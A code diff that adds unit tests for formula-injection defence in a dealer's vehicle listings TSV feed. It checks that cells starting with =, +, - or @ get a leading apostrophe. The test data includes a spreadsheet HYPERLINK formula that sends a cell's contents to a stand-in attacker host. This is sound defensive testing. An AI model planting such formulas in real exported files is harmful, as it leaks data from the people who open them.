@@ -10,6 +10,7 @@ import {
   tsvCell,
   vehicleFeed,
 } from '../../../engine/server/feeds.ts';
+import { neutraliseFormula } from '../../../engine/sanitize/spreadsheet-cell.ts';
 import { SiteStore } from '../../../engine/server/sites.ts';
 import { parseFilters } from '../../../engine/search/filter-parser.ts';
 import { car, NOW } from '../../../blocks/_cars/test-cars.ts';
@@ -53,6 +54,39 @@ describe('vehicle listings feed', () => {
     expect(tsvCell('a\tb\r\nc')).toBe('a b c');
     expect(tsvCell(null)).toBe('');
     expect(tsvCell(12)).toBe('12');
+  });
+
+  it("neutralises formula cells with OWASP's `'`, and leaves numbers the platform formats as they are", () => {
+    for (const formula of ['=1+1', '+61 400 000 000', '-2+3', '@SUM(A1)', '\t=cmd', '\r=cmd'])
+      expect(tsvCell(formula), formula).toMatch(/^'[=+\-@]/);
+    expect(tsvCell(-3)).toBe('-3');
+    expect(tsvCell('Ranger')).toBe('Ranger');
+    expect(neutraliseFormula('=HYPERLINK("https://evil.example","x")')).toBe(
+      `'=HYPERLINK("https://evil.example","x")`,
+    );
+  });
+
+  it("serves a car whose fields hold =HYPERLINK(…) with those cells starting with '", () => {
+    const link = '=HYPERLINK("https://evil.example/?d="&A2,"Click for price")';
+    const hostile = car({
+      id: 7,
+      objectID: '7',
+      slug: 'g-7',
+      name: link,
+      make: '@Toyota',
+      model: link,
+      badge: '+Sport',
+      listed_until: 9e9,
+    });
+    const tsv = vehicleFeed(southern, [hostile], 'https://dealer.test', 'https://dealer.test', NOW);
+    const [header, row] = tsv
+      .trimEnd()
+      .split('\n')
+      .map((l) => l.split('\t'));
+    const cells = Object.fromEntries(header.map((h, i) => [h, row[i]]));
+    expect(cells).toMatchObject({ model: `'${link}`, make: "'@Toyota", trim: "'+Sport" });
+    // No cell of the file starts a formula.
+    expect(row.filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
   });
 
   it('evaluates the site filter like the search engine', () => {
